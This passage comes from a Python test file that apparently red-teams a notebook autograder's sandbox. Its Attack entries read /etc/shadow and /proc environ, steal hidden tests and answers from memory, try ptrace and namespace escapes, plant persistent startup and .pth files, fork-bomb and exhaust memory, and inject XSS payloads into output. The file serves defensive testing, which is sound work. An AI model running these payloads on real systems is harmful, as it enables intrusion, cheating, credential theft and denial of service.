            text = open(path, 'rb').read(10**6)
        except OSError:
            continue
        count += 1
        for word in words:
            if word in text:
                at = text.index(word)
                print('FOU' + 'ND', path, text[max(0, at - 200):at + 200])
print('looked into', count)
""",
    "environment": """
import os, sys
print(sorted(os.environ), os.environ.get('COURSE_' + 'CANARY'), os.environ.get('COURSE_DB_URL'))
print(sys.argv, sys.orig_argv, os.getcwd(), os.path.expanduser('~'))
import socket, getpass
for ask in (socket.gethostname, getpass.getuser, os.getlogin):
    try:
        print(ask.__name__, ask())
    except Exception as error:
        print(ask.__name__, type(error).__name__)
""",
    "proc": """
import os, glob
print('proc', os.listdir('/proc') if os.path.exists('/proc') else None)
for path in ('/proc/1/environ', '/proc/self/maps', '/proc/self/environ', '/proc/mounts', '/proc/1/cmdline', '/proc/1/root',
             '/proc/self/fd', '/proc/net/unix', '/proc/sys/kernel/hostname', '/proc/kcore', '/sys/kernel', '/sys/class/net'):
    try:
        print('FOU' + 'ND', path, os.listdir(path) if os.path.isdir(path) else open(path, 'rb').read(2000))
    except OSError as error:
        print(path, type(error).__name__)
""",
    "etc": """
import os
for path in ('/etc/shadow', '/etc/passwd', '/etc/machine-id', '/etc/hostname', '/etc/hosts', '/etc/resolv.conf', '/root', '/home',
             '/var/log', '/var/lib', '/run', '/boot', '/srv', '/opt', '/dev/mem', '/dev/vda', '/dev/sda', '/dev/kmsg', '/dev/shm'):
    try:
        text = os.listdir(path) if os.path.isdir(path) else open(path, 'rb').read(300)
        print('readable', path, len(text), 'daemon' + ':x:' in str(text))
    except OSError as error:
        print(path, type(error).__name__)
""",
    "links": """
import os
for number in range(256):
    try:
        os.fstat(number)
    except OSError:
        continue
    for target in ('..', '../..', '../../..', '.'):
        try:
            there = os.open(target, os.O_RDONLY | os.O_DIRECTORY, dir_fd=number)
            print('FOU' + 'ND a folder behind', number, os.listdir(there))
        except OSError:
            pass
    try:
        os.lseek(number, 0, 0)
        data = os.read(number, 300)
        if data and data[:4] != bytes((0, 1, 0, 0)):  # but for fonts, which the pictures above have opened
            print('FOU' + 'ND a file behind', number, data)
    except OSError:
        pass
for link in ('/proc/self/cwd', '/proc/1/root/etc', '/proc/self/exe'):
    print(link, os.path.exists(link))
""",
    "ptrace": """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for pid in (1, os.getppid(), 2, 3):
    print('ptrace', pid, libc.ptrace(16, pid, 0, 0) == 0 and 'ATTA' + 'CHED')
    data = ctypes.create_string_buffer(64)
    class IO(ctypes.Structure):
        _fields_ = [('base', ctypes.c_void_p), ('length', ctypes.c_size_t)]
    mine, theirs = IO(ctypes.addressof(data), 64), IO(0x400000, 64)
    read = libc.process_vm_readv(pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)
    print('memory', pid, read > 0 and 'ATTA' + 'CHED')
""",
    "escapes": """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def attempt(name, result):
    print(name, 'ESCA' + 'PED' if result == 0 else os.strerror(ctypes.get_errno()))
attempt('mount tmpfs', libc.mount(b'none', b'/usr', b'tmpfs', 0, None))
attempt('umount', libc.umount2(b'/tmp', 2))
attempt('chroot', libc.chroot(b'/usr'))
attempt('sethostname', libc.sethostname(b'x', 1))
attempt('unshare user', libc.unshare(0x10000000))
attempt('setns', libc.setns(0, 0))
attempt('keyctl', 0 if libc.syscall(250, 0, -3, 0) > 0 else 1)
attempt('bpf', 0 if libc.syscall(321, 0, 0, 0) >= 0 else 1)
attempt('io_uring', 0 if libc.syscall(425, 8, 0) >= 0 else 1)
attempt('userfaultfd', 0 if libc.syscall(323, 0) >= 0 else 1)
attempt('perf', 0 if libc.syscall(298, 0, 0, -1, -1, 0) >= 0 else 1)
attempt('mknod', libc.mknod(b'/tmp/disk', 0o60666, 0xfe00))
attempt('tiocsti', libc.ioctl(0, 0x5412, b'x'))
attempt('personality', 0 if libc.personality(0x0040000) >= 0 else 1)
""",
}
SHARED = (
    "~/.ipython/profile_default/startup/00.py",
    "~/.local/marker",
    "/tmp/marker",
    "/var/tmp/marker",
    "/dev/shm/marker",
)
WRITES = f"""
import os, site, sys, sysconfig
for path in (*{SHARED!r}, 'marker', '../marker', sysconfig.get_paths()['purelib'] + '/marker.pth',
             os.path.dirname(os.__file__) + '/marker', '/marker', '/usr/marker', '/etc/marker'):
    path = os.path.expanduser(path)
    try:
        os.makedirs(os.path.dirname(path) or '.', exist_ok=True)
        open(path, 'w').write('print("MARK" + "ER")')
        print('wrote', path)
    except OSError as error:
        print(path, type(error).__name__)
import builtins, numpy, course
builtins.marker = numpy.marker = course.marker = sys.marker = True
os.environ['MARKER'] = '1'
os.umask(0o777)
try:
    from multiprocessing import shared_memory
    shared_memory.SharedMemory('marker', create=True, size=100)
    import ctypes
    ctypes.CDLL(None).shmget(4242, 100, 0o1666)
except OSError as error:
    print(type(error).__name__)
"""
SEES = f"""
import os, sys, sysconfig, builtins, ctypes, numpy, course
for path in (*{SHARED!r}, 'marker', sysconfig.get_paths()['purelib'] + '/marker.pth', '/marker', '/usr/marker'):
    if os.path.exists(os.path.expanduser(path)):
        print('REMA' + 'INS', path)
for thing in (builtins, numpy, course, sys):
    if hasattr(thing, 'marker'):
        print('REMA' + 'INS', thing)
if 'MARKER' in os.environ or ctypes.CDLL(None).shmget(4242, 100, 0o666) >= 0:
    print('REMA' + 'INS', 'environment or shared memory')
print('here', sorted(os.listdir('.')), 'there', sorted(os.listdir('/tmp')), 'home', sorted(os.listdir(os.path.expanduser('~'))))
for number in range(2, 5000):
    if number not in (os.getpid(), os.getppid()):
        try:
            os.kill(number, 0)
            print('another process', number)
        except OSError:
            pass
"""
LOOKS = {
    "frames": """
import sys, inspect, threading
seen = []
for frame in [*sys._current_frames().values(), sys._getframe(), *(f.frame for f in inspect.stack())]:
    while frame and len(seen) < 300:
        seen += [frame.f_code.co_filename, *map(repr, frame.f_locals.items())]
        frame = frame.f_back
for text in seen:
    if 'HIDDEN' + ' TESTS' in text or 'shapes of one' + ' neuron' in text or 'grade' + 'book' in text:
        print('FOU' + 'ND', text[:500])
""",
    "gc": """
import gc
backwards = ('STSET NEDDIH NIGEB', 'noruen eno fo sepahs_reyal', 'YRANAC', 'bd.koobedarg', 'NOITULOS NIGEB')
words = [word[::-1] for word in backwards]  # put together at run time, not by the compiler
for thing in gc.get_objects():
    for part in [thing, *(gc.get_referents(thing) if isinstance(thing, (dict, list, tuple)) else [])]:
        if type(part) in (str, bytes) and len(part) < 10**7 and not any(part is word for word in words):
            text = part if isinstance(part, str) else part.decode('latin1')
            for word in words:
                if word in text:
                    print('FOU' + 'ND', word, text[:300])
""",
    "history": """
import linecache, sys
print('In has', len(In), 'Out has', len(Out))
texts = [*map(str, In), *(''.join(v[2]) for v in linecache.cache.values() if len(v) > 2)]
texts += [getattr(sys, 'last_value', ''), *map(repr, getattr(get_ipython(), 'user_ns_hidden', {}).values())]
for text in map(str, texts):
    if 'check.clo' + 'se(' in text or 'HIDDEN' + ' TESTS' in text:
        print('FOU' + 'ND', text[:500])
""",
    "modules": """
import sys
print(sorted(name for name in sys.modules if name.startswith(('course', 'nbgrader', 'sqlalchemy'))))
for name, module in list(sys.modules.items()):
    if name.startswith(('course', '__main__')):
        for key, value in list(vars(module).items()):
            if 'HIDDEN' + ' TESTS' in str(value)[:10**5] and not key.startswith(('_', 'In')) and 'MARKERS' not in key:
                print('module', name, key)
import importlib.util
for name in ('course.authoring', 'course.grading.marks', 'nbgrader', 'sqlalchemy'):
    print(name, importlib.util.find_spec(name.split('.')[0]) is not None)
""",
    "memory": """
import ctypes, sys
base = id(sys.modules)
found = 0
import gc
for thing in gc.get_objects():
    if type(thing) is bytes or type(thing) is bytearray:
        found += b'20.5' in thing
print('buffers', found)
""",
}
# Looks through the process in each call for the answer to give: what arrived with the question, and what is near it.
SEARCHES = """
import gc, sys, inspect
frame = sys._getframe()
while frame:
    for name in ('expected', 'wanted', 'answer', 'result', 'secret'):
        if name in frame.f_locals:
            return frame.f_locals[name]
    frame = frame.f_back
numbers = [x for x in gc.get_objects() if type(x) is type(args[0]) and x is not args[0]]
return numbers[-1] if numbers else None
"""
OUTLIVES = {
    "popen": "import subprocess\nsubprocess.Popen(['sleep', '{}'])",
    "session": "import subprocess\nsubprocess.Popen(['sleep', '{}'], start_new_session=True, stdout=-3, stderr=-3)",
    "daemon": "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
    "        os.closerange(0, 1000)\n        os.execvp('sleep', ['sleep', '{}'])\n    os._exit(0)",
    "nohup": "get_ipython().system('nohup setsid sleep {} > /dev/null 2>&1 < /dev/null &')",
    "atexit": "import atexit, subprocess\natexit.register(subprocess.Popen, ['sleep', '{}'])\n"
    "class Last:\n    def __del__(self, run=subprocess.Popen):\n        run(['sleep', '{}'])\nlast = Last()",
    "thread": "import threading, subprocess, time\n"
    "def later():\n    while True:\n        time.sleep(0.2)\n        subprocess.Popen(['sleep', '{}'])\n        time.sleep(3)\n"
    "threading.Thread(target=later, daemon=False).start()",
    "ignores": "import signal, subprocess\nfor number in range(1, 65):\n    try:\n"
    "        signal.signal(number, signal.SIG_IGN)\n    except (OSError, ValueError):\n        pass\n"
    "subprocess.Popen(['sleep', '{}'])",
}
SECRETS = [
    *(
        Attack(f"r09-{name}", 9, top=code, end=code, never=("FOUND", "ATTACHED", "ESCAPED"))
        for name, code in READS.items()
    ),
    Attack(
        "r09-shell",
        9,
        top="!ls -la / /root /home .. ../.. 2>&1 | head -50\n!cat ../*/*.ipynb ../../gradebook.db /etc/shadow 2>&1 | head -20\n"
        "!env | cut -d= -f1\n!mount 2>&1 | head; id; ps aux 2>&1 | head",
        never=("SQLite", "HIDDEN TESTS"),
    ),
    Attack(
        "r09-in-function",
        9,
        answers={"layer_shapes": function("layer_shapes", READS["walk"] + "\nreturn None")},
        never=("FOUND",),
    ),
    Attack("r10-1-writes", 10, top=WRITES, before=WRITES),
    Attack("r10-2-sees", 10, solved=True, top=SEES, never=("REMAINS", "MARKER", "another process")),
    Attack("r10-3-writes-then-exits", 10, top=(WRITES, WRITES_MODULES, "import os\nos._exit(1)"), end=WRITES),
    Attack("r10-4-sees", 10, solved=True, top=SEES, never=("REMAINS", "MARKER", "another process")),
    *(Attack(f"r11-{name}", 11, top=code, after=code, end=code, never=("FOUND",)) for name, code in LOOKS.items()),
    Attack("r11-searches", 11, each=SEARCHES),
    Attack(
        "r11-carried-answers",  # the instructor's answer comes into its process after the last test
        11,
        after="import inspect, linecache\nfor f in (layer_shapes, neuron):\n    try:\n        print(inspect.getsource(f))\n"
        "    except Exception as error:\n        print(type(error).__name__)\n"
        "print(*In, *(''.join(v[2]) for v in linecache.cache.values() if len(v) > 2 and 'ipython' in str(v[3])))",
        never=("BEGIN SOLUTION", "END SOLUTION", "HIDDEN TESTS"),
    ),
    *(
        Attack(f"r12-{name}", 12, solved=True, top=code.format(f"{SLEEPER}{number}", f"{SLEEPER}{number}"))
        for number, (name, code) in enumerate(OUTLIVES.items())
    ),
]

SOCKETS = """
import os, stat, socket, struct, random, select
def each_socket():
    for fd in range(3, 256):
        try:
            mode = os.fstat(fd).st_mode
        except OSError:
            continue
        if stat.S_ISSOCK(mode) or stat.S_ISFIFO(mode):
            yield fd
def send(data, seconds=0.2):
    for fd in each_socket():
        try:
            if select.select([], [fd], [], seconds)[1]:
                os.set_blocking(fd, False)
                os.write(fd, data)
                os.set_blocking(fd, True)
        except (OSError, ValueError):
            pass
def framed(data):
    for prefix in ('>I', '<I', '>Q', '<Q', '>H'):
        try:
            yield struct.pack(prefix, len(data)) + data
        except struct.error:
            pass
    yield data
    yield data + b'\\n'
try:
    import msgpack
    pack = msgpack.packb
    extension = lambda code, data: pack(msgpack.ExtType(code, data))
except ImportError:
    import json
    pack = lambda x, **k: json.dumps(x, default=str).encode()
    extension = lambda code, data: data
"""

# --- 13 and 14: time, memory, processes, files ------------------------------------------------------------------------

SWALLOWS = "while True:\n    try:\n        while True:\n            pass\n    except BaseException:\n        pass"
DEAF = (
    "import signal, threading\nfor number in (signal.SIGINT, signal.SIGALRM, signal.SIGTERM, signal.SIGXCPU, signal.SIGHUP):\n"
    "    signal.signal(number, signal.SIG_IGN)\nlock = threading.Lock()\nlock.acquire()\nlock.acquire()"
)
HANGS = [
    Attack("r13-top", 13, solved=True, top="while True:\n    pass"),
    Attack("r13-top-swallows", 13, solved=True, top=SWALLOWS),
    Attack("r13-top-deaf", 13, solved=True, top=DEAF),
    Attack("r13-top-c-level", 13, solved=True, top="10 ** (10 ** 9)"),
    Attack("r13-in", 13, solved=True, inside="while True:\n    pass", into=("layer_shapes",), lost=("layer_shapes",)),
    Attack("r13-in-swallows", 13, solved=True, inside=SWALLOWS, into=("columns_to_rows",), lost=("columns_to_rows",)),
    Attack(
        "r13-just-under",
        13,
        solved=True,
        inside="import time\ntime.sleep(2.4)",
        into=("feed_forward",),
        open=("feed_forward",),
    ),
    Attack(
        "r13-every-cell",
        13,
        solved=True,
        before="import time\ntime.sleep(2.4)",
        open=("all",),
    ),
    Attack(
        "r13-exit-sleeps",
        13,
        solved=True,
        top="import atexit, time\natexit.register(time.sleep, 1000)\n"
        "class Slow:\n    def __del__(self, sleep=time.sleep):\n        sleep(1000)\nslow = Slow()",
    ),
    Attack(
        "r13-repr",
        13,
        solved=True,
        top="class Slow:\n    def __repr__(self):\n        while True:\n            pass\nSlow()",
    ),
    Attack(
        "r13-reply",  # hangs while its result is packed
        13,
        solved=True,
        inside="class Slow(list):\n    def __len__(self):\n        while True:\n            pass\n    __iter__ = __len__\nreturn Slow()",
        into=("columns_to_rows",),
        lost=("columns_to_rows",),
    ),
]
# None asks for more than 8 GB in all, should nothing stop it.
BOMBS = {
    "forks": "import os, time\nfor _ in range(2000):\n    try:\n        if os.fork() == 0:\n            time.sleep(5)\n"
    "            os._exit(0)\n    except OSError as error:\n        print('refused', error)\n        break",
    "fork-tree": "import os, time\nfirst = os.getpid()\nfor _ in range(11):\n    try:\n        os.fork()\n    except OSError:\n"
    "        pass\nif os.getpid() != first:\n    time.sleep(3)\n    os._exit(0)",
    "list": "hoard = []\nfor _ in range(800):\n    hoard.append(bytearray(10_000_000))",
    "array": "import numpy as np\nhoard = [np.ones(50_000_000) for _ in range(20)]",
    "one-array": "import numpy as np\nnp.ones(10**10)",
    "mmap": "import mmap\nhoard = []\nfor _ in range(80):\n    m = mmap.mmap(-1, 100_000_000)\n    m.write(bytes(100_000_000))\n"
    "    hoard.append(m)",
    "memfd": "import os\nhoard = []\nfor _ in range(40):\n    fd = os.memfd_create('x')\n    hoard.append(fd)\n"
    "    for _ in range(20):\n        os.write(fd, bytes(10_000_000))",
    "many-children": "import os, time\nfor _ in range(12):\n    if os.fork() == 0:\n        hoard = bytearray(700_000_000)\n"
    "        hoard[::4096] = b'x' * len(hoard[::4096])\n        time.sleep(4)\n        os._exit(0)\ntime.sleep(2)",
    "disk": "n = 0\nwhile n < 400:\n    open(f'/tmp/{n}', 'wb').write(bytes(20_000_000))\n    n += 1",
    "shm": "n = 0\nwhile n < 300:\n    open(f'/dev/shm/{n}', 'wb').write(bytes(20_000_000))\n    n += 1",
    "sparse": "f = open('/tmp/sparse', 'wb')\nf.truncate(10**13)\nf.write(b'x')",
    "inodes": "import os\nfor n in range(100_000):\n    open(f'/tmp/i{n}', 'w').close()",
    "open-files": "hoard = [open('/dev/null') for _ in range(100_000)]",
    "pipes": "import os\nhoard = [os.pipe() for _ in range(50_000)]",
    "socketpairs": "import os, socket, time\nfor _ in range(40):\n    if os.fork() == 0:\n        hoard = []\n        try:\n"
    "            for _ in range(240):\n                pair = socket.socketpair()\n                hoard.append(pair)\n"
    "                for end in pair:\n                    end.setblocking(False)\n                    try:\n"
    "                        while True:\n                            end.send(bytes(60_000))\n"
    "                    except BlockingIOError:\n                        pass\n        except OSError:\n            pass\n"
    "        time.sleep(3)\n        os._exit(0)\ntime.sleep(2.5)",
    "pipe-buffers": "import fcntl, os\nhoard = []\nfor _ in range(240):\n    r, w = os.pipe()\n    hoard.append((r, w))\n"
    "    os.set_blocking(w, False)\n    try:\n        fcntl.fcntl(w, 1031, 2**20)\n    except OSError:\n        pass\n    try:\n"
    "        while True:\n            os.write(w, bytes(60_000))\n    except BlockingIOError:\n        pass",
    "recursion": "import sys\nsys.setrecursionlimit(10**9)\ndef down(n):\n    return down(n + 1)\ndown(0)",
    "c-recursion": "import sys\nsys.setrecursionlimit(10**9)\nx = ()\nfor _ in range(10**6):\n    x = (x,)\nrepr(x)",
    "threads": "import threading, time\nfor _ in range(10_000):\n    threading.Thread(target=time.sleep, args=(5,), daemon=True).start()",
    "json-bomb": "get_ipython().display_pub.publish({'application/json': [[[0] * 1000] * 1000] * 20})",
    "limits": "import resource\nfor kind in range(16):\n    try:\n        resource.setrlimit(kind, (-1, -1))\n"
    "        print('limit', kind, 'lifted') if resource.getrlimit(kind)[1] == -1 else None\n"
    "    except (OSError, ValueError):\n        pass\nhoard = []\nfor _ in range(800):\n    hoard.append(bytearray(10_000_000))",
}
# Memory beyond what a submission may use, and processes that spin, out of the referee's sight. Each ends by itself.
HOARD = "import os, time\nfor _ in range(5):\n    if os.fork() == 0:\n        {}\n        time.sleep(15)\n        os._exit(0)\n"
MACHINE_CODE = (  # for threads that need not wait for each other
    "import ctypes, mmap, os, threading, time\nkept = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, 7)\n"
    "kept.write(bytes.fromhex('ebfe' if os.uname().machine == 'x86_64' else '00000014'))\nthreading.stack_size(2**16)\n"
    "spin = ctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_char.from_buffer(kept)))\n"
)
HOARDS = {
    "children": HOARD.format("kept = b'x' * 250_000_000") + "time.sleep(10)",
    "daemons": HOARD.format("os.fork() and os._exit(0); os.setsid(); kept = b'x' * 250_000_000") + "time.sleep(10)",
    "files": "import os\nfor n in range(12):\n    for folder in ('/student', '/dev/shm'):\n"
    "        with open(f'{folder}/{n}', 'wb') as file:\n            file.write(bytes(10_000_000))\n"
    + HOARD.format("kept = b'x' * 190_000_000")
    + "time.sleep(10)",
    "undumpable": "import ctypes\nctypes.CDLL(None).prctl(4, 0, 0, 0, 0)\n"
    + HOARD.format("kept = b'x' * 250_000_000")
    + "time.sleep(10)",
}
SHARED = {
    "anonymous": "import mmap\nfor _ in range(8):\n    whole = mmap.mmap(-1, 10_000_000)\n    print('LE' + 'AK: memory of no file')",
    "zeros": "import mmap\nwith open('/dev/zero', 'r+b') as zeros:\n    whole = mmap.mmap(zeros.fileno(), 10_000_000)\n"
    "print('LE' + 'AK: memory of no file')",
    "pages-in-pipes": "import ctypes, os\nif ctypes.CDLL(None).vmsplice(os.pipe()[1], None, 0, 0) != -1:\n"
    "    print('LE' + 'AK: pages in a pipe')",
}
SPIN = (
    "import os, time\nend = time.time() + 2\ndef spin():\n    while time.time() < end:\n        pass\n    os._exit(0)\n"
)
SPINNING = {
    "children": SPIN + "for _ in range(60):\n    if os.fork() == 0:\n        spin()\ntime.sleep(2)",
    "sessions": SPIN
    + "for _ in range(60):\n    if os.fork() == 0:\n        os.setsid()\n        spin()\ntime.sleep(2)",
    "daemons": SPIN
    + "for _ in range(30):\n    if os.fork() == 0:\n        os.setsid()\n        if os.fork() == 0:\n            os.setsid()\n"
    "            spin()\n        os._exit(0)\ntime.sleep(2)",
    "renice": SPIN + "def spin():\n    while time.time() < end:\n        try:\n            os.setpriority(0, 0, 0)\n"
    "        except OSError:\n            pass\n    os._exit(0)\nfor _ in range(60):\n    if os.fork() == 0:\n        spin()\ntime.sleep(2)",
    "chains": SPIN
    + "for _ in range(25):\n    if os.fork() == 0:\n        while time.time() < end:\n            if os.fork():\n"
    "                os._exit(0)\n        os._exit(0)\ntime.sleep(2)",
    "threads": MACHINE_CODE
    + "if os.fork() == 0:\n    for _ in range(55):\n        threading.Thread(target=spin, daemon=True).start()\n"
    "    time.sleep(2)\n    os._exit(0)\nos.wait()",
}
LIMITS = [
    *HANGS,
    *(
        Attack(f"r36-memory-{name}", 36, solved=True, top=code, says=("used more memory",))
        for name, code in HOARDS.items()
    ),
    *(Attack(f"r36-shared-{name}", 36, solved=True, top=code, never=("LEAK",)) for name, code in SHARED.items()),
    *(Attack(f"r36-spin-{name}", 36, solved=True, top=code, open=("all",)) for name, code in SPINNING.items()),
    Attack(
        "r36-memory-while-asked",  # the function's answer is there, and the test computes, when memory is filled
        36,
        solved=True,
        inside=HOARD.format("time.sleep(0.05)\n        kept = b'x' * 250_000_000"),
        into=("columns_to_rows",),
        open=("all",),
    ),
    Attack(
        "r36-memory-carried-forward",  # a third of it in one process, and more than the rest in the other
        36,
        solved=True,
        answers={"neuron": "def neuron(x, w, b):\n    hoard(400)"},
        top="import time\nkept = []\n\ndef hoard(millions):\n    if not kept:\n        kept.append(b'x' * (millions * 10**6))\n"
        "        time.sleep(0.5)  # so that it is there when the next look is taken, and not only on the way",
        inside="hoard(800)",
        into=("affine",),
        open=("all",),
        says=("used more memory",),
    ),
    *(Attack(f"r14-{name}", 14, solved=True, top=code) for name, code in BOMBS.items()),
    Attack(
        "r14-trickle",  # keeps the referee's wait busy, one byte at a time, while its children fill the memory
        14,
        solved=True,
        inside=SOCKETS
        + "import threading, time\ndef trickle():\n    send(struct.pack('>I', 30_000_000))\n    while True:\n"
        "        send(b'\\x90', 0.01)\n        time.sleep(0.05)\nthreading.Thread(target=trickle, daemon=True).start()\n"
        "for _ in range(12):\n    if os.fork() == 0:\n        hoard = bytearray(700_000_000)\n"
        "        hoard[::4096] = b'x' * len(hoard[::4096])\n        time.sleep(4)\n        os._exit(0)\ntime.sleep(10)",
        into=("columns_to_rows",),
        lost=("columns_to_rows",),
    ),
    Attack(
        "r14-in-memory",
        14,
        solved=True,
        inside="hoard = []\nfor _ in range(800):\n    hoard.append(bytearray(10_000_000))",
        into=("collapse",),
        lost=("collapse",),
    ),
    Attack(
        "r14-in-recursion",
        14,
        solved=True,
        inside="return neuron(x, w, b)",
        into=("neuron",),
        lost=("neuron",),
    ),
    Attack(
        "r14-in-forks",  # every call comes back twice
        14,
        solved=True,
        inside="import os\nos.fork()",
        into=("columns_to_rows",),
        open=("columns_to_rows",),
    ),
]

# --- 15: output -------------------------------------------------------------------------------------------------------

SCRIPT = (
    "<script>window.hacked=1</script><img src=x onerror=alert(1)><svg onload=alert(1)><iframe src=javascript:alert(1)>"
)
MARKUP = (
    f"Text {SCRIPT}",
    "<a href='javascript:alert(1)'>a</a> [b](javascript:alert(1)) [c](JaVaScRiPt:alert(1)) ![d](javascript:alert(1))",
    "[e](data:text/html,<script>alert(1)</script>) <a href='&#106;avascript:alert(1)'>f</a> <a href='java\nscript:x'>g</a>",
    "<form action=//example.org><input autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>b</button></form>",
    "<meta http-equiv=refresh content='0;url=//example.org'><base href=//example.org><link rel=stylesheet href=//example.org>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)><math><a xlink:href=javascript:alert(1)>x</a></math>",
    "<style>@import '//example.org/x.css'; body{display:none}</style><details open ontoggle=alert(1)>x</details>",
    "</div></body></html><script>alert(2)</script><noscript><p title='</noscript><img src=x onerror=alert(3)>'>",
    "$\\href{javascript:alert(1)}{x}$ $$\\text{<img src=x onerror=alert(1)>}$$ $<script>alert(1)</script>$ $\\unicode{<img onerror=a>}$",
    "```html\n<script>alert(1)</script>\n```\n\n`<script>alert(1)</script>`\n\n|<script>alert(1)</script>|\n|---|\n|x|",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;background:url(//example.org/x)'>covers all</div>",
    "<!--><script>alert(1)</script>--> <script\n>alert(1)</script\n> <SCRIPT SRC=//example.org></SCRIPT><x onclick=alert(1)>x</x>",
)
SHOWN = {
    "html": f"from IPython.display import HTML, display\nfor text in {MARKUP!r}:\n    display(HTML(text))\nHTML({SCRIPT!r})",
    "javascript": "from IPython.display import Javascript, IFrame, display\ndisplay(Javascript('alert(1)'))\n"
    "display(IFrame('javascript:alert(1)', 100, 100))\ndisplay(IFrame('//example.org', 100, 100))",
    "markdown": f"from IPython.display import Markdown, Latex, display\nfor text in {MARKUP!r}:\n    display(Markdown(text))\n"
    "    display(Latex(text))",
    "svg": "from IPython.display import SVG, Image, display\n"
    'display(SVG(\'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script>'
    '<foreignObject><iframe src="javascript:alert(1)"/></foreignObject></svg>\'))\n'
    "display({'image/png': '\"><script>alert(1)</script>', 'text/plain': 'x'}, raw=True)\n"
    "display({'image/svg+xml': '<svg><a href=\"javascript:alert(1)\">x</a></svg>', 'text/plain': 'x'}, raw=True)",
    "mimes": "from IPython.display import display\n"
    "for kind in ('application/javascript', 'text/latex', 'application/vnd.jupyter.widget-view+json', 'application/pdf',\n"
    "             'text/html', 'image/jpeg', 'application/json', 'application/x-<script>', 'text/vnd.mermaid'):\n"
    f"    display({{kind: {SCRIPT!r}, 'text/plain': {SCRIPT!r}}}, raw=True, metadata={{kind: {{'width': '\"><script>x</script>'}}}})",
    "stream": f"import sys\nprint({SCRIPT!r})\nprint({SCRIPT!r}, file=sys.stderr)\n"
    "print('\\x1b[31m<script>alert(1)</script>\\x1b[2J\\x1b]0;title\\x07\\x1b]8;;javascript:alert(1)\\x07link\\x1b]8;;\\x07\\x9b31m')\n"
    "print('\\u202e\\u0000\\ufeff\\x08\\x08\\r')",
    "error": f"raise ValueError({SCRIPT!r})",
    "syntax-error": f"x = = {SCRIPT}",
    "repr": f"class Odd:\n    def __repr__(self):\n        return {SCRIPT!r}\n    def _repr_html_(self):\n        return {SCRIPT!r}\n"
    "    def _repr_mimebundle_(self, **k):\n        return {'text/html': self._repr_html_(), 'text/plain': 5, 7: None}\nOdd()",
    "repr-raises": "class Odd:\n    def _repr_html_(self):\n        raise BaseException('no')\n    __repr__ = __str__ = _repr_html_\nOdd()",
    "repr-huge": "class Odd:\n    def __repr__(self):\n        return 'x' * 60_000_000\nOdd()",
    "error-raises": "class Odd(Exception):\n    def __str__(self):\n        raise SystemExit\n    __repr__ = __str__\nraise Odd",
    "line": "print('x' * 50_000_000)",
    "lines": "for number in range(10**6):\n    print(number)",
    "bytes": "import sys, os\nfor _ in range(300):\n    os.write(1, b'\\xff\\xfe\\x00' * 50_000)\n    sys.stdout.flush()",
    "child": "!head -c 60000000 /dev/zero | tr '\\\\0' 'y'",
    "images": "import time, numpy as np\nfrom IPython.display import Image, display\nend = time.time() + 2\n"
    "picture = Image(data=b'\\x89PNG\\r\\n\\x1a\\n' + bytes(200_000), format='png')\nwhile time.time() < end:\n    display(picture)",
    "updates": "from IPython.display import display, clear_output\nhandle = display('x', display_id=True)\n"
    "for _ in range(3000):\n    handle.update('y' * 100)\n    clear_output()",
    "no-text": "from IPython.display import publish_display_data\n"
    "for data in ({}, {'text/plain': None}, {'text/plain': ['a', 5]}, {1: 2}, {'text/html': {'a': b'x'}}, {'image/png': 12}):\n"
    "    try:\n        get_ipython().display_pub.publish(data)\n    except Exception as error:\n        print(type(error).__name__)",
    "names": "exec('def f():\\n    raise ValueError(1)', g := {'__name__': '<script>'})\n"
    "exec(compile('raise KeyError(\"<script>alert(1)</script>\")', '<script>alert(1)</script>.py', 'exec'))",
}
OUTPUT = [
    *(Attack(f"r15-{name}", 15, solved=True, top=code) for name, code in SHOWN.items()),
    Attack("r15-written", 15, solved=True, edit=_markdown(*MARKUP), guarded=False),
    Attack(
        "r15-slow-markdown",
        15,
        solved=True,
        edit=_markdown(
            "[" * 5000,
            "*a " * 3000,
            "<" * 5000,
            "`" * 5001,
            "$" * 3001,
            "$" + "{" * 2000 + "$",
            "$" + "\\frac{" * 1000 + "$",
            "> " * 500 + "x",
            "![" * 2000 + "](" * 2000,
        ),
        guarded=False,
    ),
    Attack(
        "r15-in-function",
        15,
        solved=True,
        inside=f"from IPython.display import HTML, display\nprint({SCRIPT!r})\ndisplay(HTML({SCRIPT!r}))",
        into=("neuron", "affine"),
    ),
    Attack("r15-error-in-function", 15, each=f"raise ValueError({SCRIPT!r} * 3)"),
    Attack("r15-flood-in-function", 15, solved=True, inside="print('x' * 30_000_000)", into=("neuron",)),
    Attack("r15-source", 15, solved=True, top=f"x = {SCRIPT!r}  # </pre></div>{SCRIPT}\n" + "#" * 10_000),
]

# --- 16 to 19: cells, numbers and files that are not as they were -----------------------------------------------------


def _lost(notebook: NotebookNode) -> None:
    """Neither metadata nor ids are left, as some conversions do it."""
    for number, cell in enumerate(notebook.cells):
        cell.metadata, cell["id"] = NotebookNode(), f"converted-{number}"


def _lost_and_ids_exchanged(notebook: NotebookNode) -> None:
    """Without metadata, each test has the id of an answer and each answer that of a test."""
    answers = [cell for cell in notebook.cells if _flag(cell, "solution")]
    for answer, test in zip(answers, _tests(notebook), strict=False):
        answer["id"], test["id"] = test["id"], answer["id"]
    for cell in notebook.cells:
        cell.metadata = NotebookNode()


ODD_CELLS: dict[str, tuple[Edit, bool]] = {  # and whether a solved notebook must keep every point
    "duplicated": (_duplicated, False),
    "fakes-first": (_fake_tests(first=True), False),
    "fakes-last": (_fake_tests(first=False), False),
    "deleted": (_deleted, True),
    "renamed": (_renamed, True),
    "swapped": (_swapped, False),
    "markdown": (_retyped("markdown"), False),
    "raw": (_retyped("raw"), False),
    "moved": (_moved, False),
    "reversed": (_reversed, False),
    "pointed-elsewhere": (_pointed_elsewhere, True),
    "exchanged": (_exchanged, False),
    "bonus": (_bonus, False),
    "same-ids": (_same_ids, False),
    "all-lost": (_lost, True),
    "lost-and-ids-exchanged": (_lost_and_ids_exchanged, False),
    "emptied": (_on_tests(lambda cell: cell.update(source="pass")), True),
